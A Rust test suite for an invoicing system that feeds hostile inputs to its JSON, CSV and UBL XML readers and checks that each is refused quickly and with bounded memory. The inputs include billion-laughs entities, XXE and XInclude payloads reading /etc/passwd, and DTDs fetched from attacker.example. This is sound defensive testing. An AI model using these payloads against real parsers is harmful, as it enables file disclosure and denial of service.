//! The limits that docs/hostile-input.md states, one after the other, on every way in that they are stated for: each is reached, said
//! in words, and costs neither time nor memory out of proportion.
#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "tests"
)]

use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use formats::{Context, Format, Settings};
use fuzz::{TARGETS, Target};
use invoice::{Fault, FaultCode, Profile, limits};
use jofotara::{Credentials, Exchange, Sent};
use secrecy::SecretString;
use serde_json::{Value, json};
use uuid::Uuid;

const GUIDE: &str = include_str!("../../../crates/ubl/tests/golden/guide_3_general.xml");

/// Without optimisation, on a machine with other work; what is not bounded takes minutes.
const SOON: Duration = Duration::from_secs(20);

fn event() -> Value {
    json!({
        "schema_version": 1, "uuid": "0fa70000-0000-4000-8000-000000000001", "family": "income", "payment": "cash", "number": "ف-1",
        "issue_date": "2026-11-20", "seller": { "tax_number": "11111111", "income_source": "1001001", "name": "متجر الياسمين" },
        "lines": [{ "name": "خبز عربي", "quantity": "2", "unit_price": "3.250" }]
    })
}

fn refused(json: &str) -> Vec<Fault> {
    let started = Instant::now();
    let faults =
        invoice::read(json.as_bytes()).map(|checked| checked.normal_form).expect_err("hostile, and taken");
    assert!(started.elapsed() < SOON, "{:?}", started.elapsed());
    assert!(
        faults.iter().all(|fault| fault.message.len() < 2_000 && !fault.message_ar.is_empty()),
        "{faults:.500?}"
    );
    faults
}

fn has(faults: &[Fault], code: FaultCode, path: &str) {
    assert!(
        faults.iter().any(|fault| fault.code == code && fault.path == path),
        "{code} at {path}: {faults:.1000?}"
    );
}

/// What a format says of the first document.
fn foreign(format: Format, bytes: &[u8]) -> Result<(), Vec<Fault>> {
    let settings = Settings::default();
    let context = Context { settings: &settings, family: &|_| None };
    let first = formats::documents(format, bytes, &context).next().expect("one document at least");
    first.result?.check(&Profile::default()).map(|_| ())
}

#[test]
fn the_plain_event_is_taken() {
    assert!(
        invoice::read(event().to_string().as_bytes()).is_ok(),
        "else all these refusals would prove nothing"
    );
    assert_eq!(foreign(Format::Ubl, GUIDE.as_bytes()), Ok(()));
}

#[test]
fn bytes_of_one_event() {
    let mut large = event();
    large["note"] = json!("ن".repeat(limits::EVENT_BYTES / 2));
    has(&refused(&large.to_string()), FaultCode::TooLarge, "");
    for format in [Format::Post2Tax, Format::Eezi] {
        has(&foreign(format, large.to_string().as_bytes()).unwrap_err(), FaultCode::TooLarge, "");
    }
    let xml = GUIDE.replacen("<cbc:ID>", &format!("<cbc:ID>{}", "9".repeat(ubl::MAX_BYTES)), 1);
    let told = ubl::read(xml.as_bytes()).map(|_| ()).unwrap_err().to_string();
    assert!(told.contains("more than"), "{told}");
}

#[test]
fn numbers_beyond_reason() {
    let digits = "9".repeat(900_000);
    let numbers = [
        "1e999999999",
        "-1e999999999",
        "1e-999999999",
        "1e99999999999999999999",
        digits.as_str(),
        "0.1e2147483648",
        "NaN",
        "Infinity",
        "-",
        "1e",
        "0x10",
        "1_000",
        "١٢",
    ];
    for number in numbers {
        for text in [format!("\"{number}\""), number.to_owned()] {
            let json = event().to_string().replacen("\"3.250\"", &text, 1);
            let faults = refused(&json);
            assert!(
                faults.iter().any(
                    |fault| fault.path == "lines[0].unit_price" || fault.code == FaultCode::MalformedJson
                ),
                "{number:.30}: {faults:.500?}"
            );
        }
        let table = format!(
            "number,issue_date,seller_tax_number,seller_name,income_source,item,quantity,unit_price\n\
             A,2026-11-20,12345678,x,9932895,y,1,{number}\n"
        );
        // A table may use Arabic-Indic digits.
        assert!(foreign(Format::Csv, table.as_bytes()).is_err() || number == "١٢", "{number:.30}");
        let document = GUIDE.replace("unitCode=\"PCE\">", &format!("unitCode=\"PCE\">{number}"));
        assert!(foreign(Format::Ubl, document.as_bytes()).is_err(), "{number:.30}");
    }
}

#[test]
fn nesting_in_every_json() {
    let deep = "[".repeat(100_000);
    let objects = "{\"a\":".repeat(60_000);
    for hostile in [&deep, &objects] {
        let inside =
            event().to_string().replacen("\"lines\":", &format!("\"metadata\":{hostile},\"lines\":"), 1);
        for json in [hostile.as_str(), inside.as_str()] {
            refused(json);
            for format in [Format::Post2Tax, Format::Eezi] {
                assert!(foreign(format, json.as_bytes()).is_err());
            }
            for target in ["http", "amqp", "answer", "routes", "hint", "stored", "simulated", "lines"] {
                let heads = [
                    "",
                    "POST /v1/invoices HTTP/1.1\n\n",
                    "POST /v1/corrections HTTP/1.1\n\n",
                    "POST /v1/import/eezi HTTP/1.1\n\n",
                ];
                for head in heads {
                    unbounded(Target::named(target).unwrap(), format!("{head}{json}").as_bytes());
                }
            }
        }
        assert!(broker::Hint::from_bytes(hostile.as_bytes()).is_err());
        assert!(fawtara::settings::read_text(&format!("a = {hostile}")).is_err());
    }
}

/// Attacks with more bytes than the target would take from an engine.
fn unbounded(target: &Target, bytes: &[u8]) {
    let started = Instant::now();
    target.attack_whole(bytes);
    assert!(started.elapsed() < SOON, "{}: {:?}", target.name, started.elapsed());
}

/// Every way in for XML, and what it says of the document.
fn readers(xml: &str) -> Vec<(&'static str, String)> {
    let mut told = Vec::new();
    let mut hear = |who, result: Result<(), String>| told.push((who, result.err().unwrap_or_default()));
    hear("read", ubl::read(xml.as_bytes()).map(|_| ()).map_err(|error| error.to_string()));
    hear("identity", ubl::identity(xml.as_bytes()).map(|_| ()).map_err(|error| error.to_string()));
    hear("theirs", ubl::same_document(GUIDE.as_bytes(), xml.as_bytes()).map_err(|error| error.to_string()));
    hear("ours", ubl::same_document(xml.as_bytes(), GUIDE.as_bytes()).map_err(|error| error.to_string()));
    let imported = foreign(Format::Ubl, xml.as_bytes());
    hear(
        "import",
        imported.map_err(|faults| faults.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ")),
    );
    hear("seal", jofotara::seal::check(xml.as_bytes(), "QR==").note().map_or(Ok(()), Err));
    let complaints = simulator::complaints(xml, &simulator::Settings::default());
    hear("simulator", if complaints.is_empty() { Ok(()) } else { Err(complaints.join("; ")) });
    told
}

#[test]
fn document_types_entities_and_inclusions_in_every_xml() {
    let (head, rest) = GUIDE.split_once("?>").unwrap();
    let laughs: String =
        (1..30).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let used = rest.replacen("<cbc:ID>", "<cbc:ID>&l29;", 1);
    for (declared, body) in [
        (format!("<!DOCTYPE Invoice [<!ENTITY l0 \"lol\">{laughs}]>"), used.as_str()),
        ("<!DOCTYPE Invoice [<!ENTITY l29 SYSTEM \"file:///etc/passwd\">]>".to_owned(), used.as_str()),
        ("<!DOCTYPE Invoice SYSTEM \"http://attacker.example/x.dtd\">".to_owned(), rest),
        ("<!DOCTYPE Invoice [<!ENTITY % p SYSTEM \"http://attacker.example/p\">%p;]>".to_owned(), rest),
        ("<!DOCTYPE Invoice>".to_owned(), rest),
    ] {
        let started = Instant::now();
        for (who, told) in readers(&format!("{head}?>{declared}{body}")) {
            let named = told.contains("DOCTYPE") || who == "simulator" && !told.is_empty();
            assert!(named, "{who} says {told:?} of {declared:.60}");
        }
        assert!(started.elapsed() < SOON);
    }
    // An entity that nothing declares, and one that is no character.
    for entity in ["&lol;", "&#0;", "&#x110000;", "&#xD800;"] {
        for (who, told) in readers(&GUIDE.replacen("<cbc:ID>", &format!("<cbc:ID>{entity}"), 1)) {
            assert!(!told.is_empty() && !told.contains("lol lol"), "{who} takes {entity}: {told}");
        }
    }
    // An inclusion is an element like any other, and nothing is fetched.
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    let included = GUIDE.replacen("<cbc:ID>", &format!("{include}<cbc:ID>"), 1);
    let told = readers(&included);
    assert!(!told.iter().any(|(_, told)| told.contains("root:")), "{told:?}");
}

#[test]
fn a_returned_document_is_no_way_in_either() {
    let identity = ubl::identity(GUIDE.as_bytes()).unwrap();
    let uuid: Uuid = identity.uuid.parse().unwrap();
    let credentials = Credentials { client_id: "id".to_owned(), secret_key: SecretString::from("secret") };
    let (head, rest) = GUIDE.split_once("?>").unwrap();
    let laughing = format!("{head}?><!DOCTYPE a [<!ENTITY l \"lol\">]>{rest}");
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    for (document, why) in [(&laughing, "DOCTYPE"), (&deep, "")] {
        let body = json!({
            "EINV_STATUS": "ALREADY_SUBMITTED", "EINV_QR": "QR==", "EINV_NUM": identity.number, "EINV_INV_UUID": uuid,
            "EINV_SINGED_INVOICE": STANDARD.encode(document),
        });
        let answered = Exchange::Answered { status: 200, retry_after: None, body: body.to_string().into() };
        let sent =
            Sent { number: &identity.number, uuid: &uuid, xml: GUIDE.as_bytes(), credentials: &credentials };
        let verdict = jofotara::interpret(&answered, &sent);
        let told = format!("{:?} {}", verdict.outcome, verdict.evidence.message);
        assert!(told.contains(why), "{told}");
        assert!(told.len() < 8_000, "{} bytes", told.len());
    }
}

#[test]
fn nesting_attributes_and_elements_in_every_xml() {
    let (head, _) = GUIDE.split_once("?>").unwrap();
    let ns = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2";
    let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"1\"")).collect();
    let namespaces: String = (0..20_000).map(|n| format!(" xmlns:n{n}=\"u{n}\"")).collect();
    let hostile = [
        format!("<Invoice xmlns=\"{ns}\">{}{}</Invoice>", "<a>".repeat(100_000), "</a>".repeat(100_000)),
        format!("<Invoice xmlns=\"{ns}\"{attributes}/>"),
        format!("<Invoice xmlns=\"{ns}\"{namespaces}/>"),
        format!("<Invoice xmlns=\"{ns}\">{}", "<a>".repeat(200_000)),
        format!("<Invoice xmlns=\"{ns}\"><!--{}", "-".repeat(1_000_000)),
        format!("<Invoice xmlns=\"{ns}\"><![CDATA[{}", "]".repeat(1_000_000)),
        format!("<Invoice xmlns=\"{ns}\">{}</b>", "&amp;".repeat(100_000)),
        format!("<Invoice xmlns=\"{ns}\">&{};</Invoice>", "x".repeat(200_000)),
        format!("<Invoice xmlns=\"{ns}\"><{}:a/></Invoice>", "x".repeat(200_000)),
        format!("<Invoice xmlns=\"{ns}\">{}</b>", "<a/>".repeat(200_000)),
    ];
    for body in hostile {
        let started = Instant::now();
        for (who, told) in readers(&format!("{head}?>{body}")) {
            assert!(!told.is_empty() && told.len() < 4_000, "{who} says {} bytes of {body:.80}", told.len());
        }
        assert!(started.elapsed() < SOON, "{:?} for {body:.80}", started.elapsed());
    }
}

#[test]
fn lines_of_a_document() {
    let line = event()["lines"][0].clone();
    let mut long = event();
    long["lines"] = json!(vec![line; limits::LINES + 1]);
    has(&refused(&long.to_string()), FaultCode::TooManyLines, "lines");
    let row = "A,2026-11-20,12345678,x,9932895,y,1,1,income,cash\n";
    let head = "number,issue_date,seller_tax_number,seller_name,income_source,item,quantity,unit_price,family,payment\n";
    let table = format!("{head}{}", row.repeat(limits::LINES + 1));
    let faults = foreign(Format::Csv, table.as_bytes()).unwrap_err();
    assert!(faults.iter().any(|fault| fault.code == FaultCode::TooManyLines), "{faults:.500?}");
}

#[test]
fn quotes_within_quotes() {
    let head = "number,issue_date,seller_tax_number,seller_name,income_source,item,quantity,unit_price\n";
    for quotes in [
        "\"".repeat(1_000_001),
        format!("\"{}", "\"\"".repeat(500_000)),
        format!("\"{}", "a\n".repeat(500_000)),
    ] {
        let started = Instant::now();
        let faults = foreign(Format::Csv, format!("{head}{quotes}").as_bytes()).unwrap_err();
        assert!(
            faults.iter().all(|fault| fault.message.chars().count() < 2_000),
            "an echo of the whole cell"
        );
        assert!(started.elapsed() < SOON);
    }
}

#[test]
fn what_stands_there_twice() {
    let text = event().to_string();
    let twice = text.replacen("{", "{\"number\":\"ف-2\",", 1);
    assert!(refused(&twice).iter().any(|fault| fault.code == FaultCode::DuplicateField));
    for (format, example) in [
        (Format::Post2Tax, formats::schema::POST2TAX_EXAMPLE),
        (Format::Eezi, formats::schema::EEZI_EXAMPLES[0]),
    ] {
        let twice = example.trim_start().replacen('{', "{\"a\":1,\"A\":2,", 1);
        let faults = foreign(format, twice.as_bytes()).unwrap_err();
        assert!(faults.iter().any(|fault| fault.code == FaultCode::DuplicateField), "{format}: {faults:?}");
    }
}

#[test]
fn characters_that_deceive() {
    for (number, taken) in
        [("A\u{202e}B", false), ("A\u{200b}B", false), ("A\0B", false), ("A\u{1b}[2JB", false), ("A-٣", true)]
    {
        let mut hostile = event();
        hostile["number"] = json!(number);
        let read = invoice::read(hostile.to_string().as_bytes());
        assert_eq!(read.is_ok(), taken, "{number:?}: {read:?}");
        if let Err(faults) = read {
            has(&faults, FaultCode::ForbiddenCharacter, "number");
        }
    }
    let mut named = event();
    for name in ["متجر\0", "متجر\u{1b}[31m", "متجر\u{7f}", "متجر\u{ffff}"] {
        named["seller"]["name"] = json!(name);
        has(&refused(&named.to_string()), FaultCode::ForbiddenCharacter, "seller.name");
    }
    for bytes in [&b"\xff"[..], b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"] {
        let mut broken = event().to_string().into_bytes();
        let at = broken.windows(9).position(|window| window == b"\"number\":").unwrap() + 10;
        broken.splice(at..at, bytes.iter().copied());
        has(&invoice::read(&broken).unwrap_err(), FaultCode::InvalidUnicode, "");
    }
    let lone = event().to_string().replacen("\"ف-1\"", "\"\\ud800\"", 1);
    assert!(refused(&lone).iter().any(|fault| fault.code == FaultCode::InvalidUnicode));
}

/// The most memory that this process ever had, in KiB; none where the system does not tell.
fn peak() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))?
        .trim()
        .strip_suffix("kB")?
        .trim()
        .parse()
        .ok()
}

/// Each input has an eighth of a mebibyte: more would only take longer. In a process of its own (as nextest runs it) the peak is this test's alone.
#[test]
fn memory_stays_in_proportion() {
    let fill = |piece: &str, size: usize| piece.repeat(size / piece.len());
    let size = 128 << 10;
    let mut inputs = vec![
        format!("[{}[]]", fill("[],", size - 10)),
        format!("{{\"a\":[{}0]}}", fill("0,", size - 20)),
        format!("[{}{{}}]", fill("{},", size - 10)),
        (0..11_000).map(|n| format!("\"{n:07}\":1")).collect::<Vec<_>>().join(","),
        fill("{}\n", size),
        fill("a,b;c\n", size),
        fill("\"\",", size),
        fill("<a b=\"c\"/>", size),
        fill("&amp;", size),
    ];
    inputs[3] = format!("{{{}}}", inputs[3]);
    let metadata =
        event().to_string().replacen("\"lines\":", &format!("\"metadata\":{},\"lines\":", inputs[3]), 1);
    inputs.push(metadata);
    let Some(before) = peak() else {
        eprintln!("SKIPPED: /proc/self/status is not there");
        return;
    };
    for target in TARGETS {
        for input in &inputs {
            for head in ["", "POST /v1/import/csv HTTP/1.1\n\n", "POST /v1/invoices HTTP/1.1\n\n"] {
                if head.is_empty() || target.name == "http" {
                    unbounded(target, format!("{head}{input}").as_bytes());
                }
            }
            let grown = (peak().unwrap_or_default() - before) / 1024;
            assert!(grown < 150, "{}: {grown} MiB for one of {:.40}", target.name, input);
        }
    }
    eprintln!("{} MiB at the peak", peak().unwrap_or_default() / 1024);
}
